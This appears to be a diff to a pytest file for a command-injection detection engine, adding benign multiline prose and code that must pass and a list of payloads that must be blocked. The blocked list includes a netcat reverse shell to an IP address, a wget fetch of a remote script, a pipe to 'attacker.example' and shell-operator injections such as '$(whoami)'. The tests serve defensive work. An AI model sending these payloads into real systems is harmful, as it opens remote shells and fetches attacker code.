@@ -97,3 +97,56 @@ def test_encoding_look_alikes_pass(engine: DetectionEngine, text: str) -> None:
     a nested encoded URL and one URL-encoded parent step (how clients encode a relative
     path) are not traversals."""
     passes_everywhere(engine, text, encoded=True)
+
+
+# ------------------------------------------------- 2. a line break is not a shell by itself
+#: Text with ordinary words on their own lines that are also command names.
+LINES_OF_PROSE_AND_CODE = [
+    "query Order($id: ID!) {\n  order(id: $id) {\n    id\n    status\n    items { id sku }\n  }\n}",
+    "fragment Who on Account {\n  id\n  handle\n}",
+    "## Install\n\n```sh\npip install bastion-client\n```\n\nThen import it.",
+    "Hello,\nI'd like to move my delivery to Friday.\nThanks, Aoife",
+    "Hi\nId like a refund for order 1182 please",
+    "Hola,\nsu pedido ha salido hoy.\nSaludos",
+    "Bonjour,\nJe voudrais annuler ma commande.\nCordialement",
+    "Hallo,\nich möchte die Adresse ändern.\nDanke",
+    "Olá,\nid do pedido: 5521\nobrigado",
+    "Notes:\nping me when you are back\nrev up the demo for Monday\nsh, the baby is asleep",
+    "Columns\nid\nname\ncreated_at",
+    "TODO\nls\n",
+]
+
+
+@pytest.mark.parametrize("text", LINES_OF_PROSE_AND_CODE)
+def test_words_on_their_own_line_are_not_commands(engine: DetectionEngine, text: str) -> None:
+    """A line break followed by a word that happens to name a command ("id" in a GraphQL
+    selection set, "I'd like" with its apostrophe removed, "su" in Spanish, "ping me") is
+    prose or code, not a shell: it passes in a JSON field, a query and a form field."""
+    passes_everywhere(engine, text)
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "report.pdf\nid -a",
+        "report.pdf\nuname -a",
+        "eu-west\nping -c 4 10.1.2.3",
+        "x\nnc 198.51.100.7 9001 -e /bin/sh",
+        "x\nwget files.example.net/run.sh",
+        "ticket 42\nwhoami",
+        "x;id",
+        "x; id;",
+        "x|id|",
+        "x | nc attacker.example 9001",
+        "x&& ping -n 3 127.0.0.1",
+        "1;uname -a #",
+        "a `id` b",
+        "a $(whoami) b",
+    ],
+)
+def test_commands_with_arguments_or_operators_are_blocked(engine: DetectionEngine, payload: str) -> None:
+    """A command that reads as one (an option, an address, a path, a host name, an operator
+    after it, or the end of the value after a line break) is still command injection."""
+    for where in ("json", "query", "form"):
+        verdict = engine.evaluate(placements(payload)[where])
+        assert verdict.block_category == "cmdi", (payload, where, verdict.log_record())
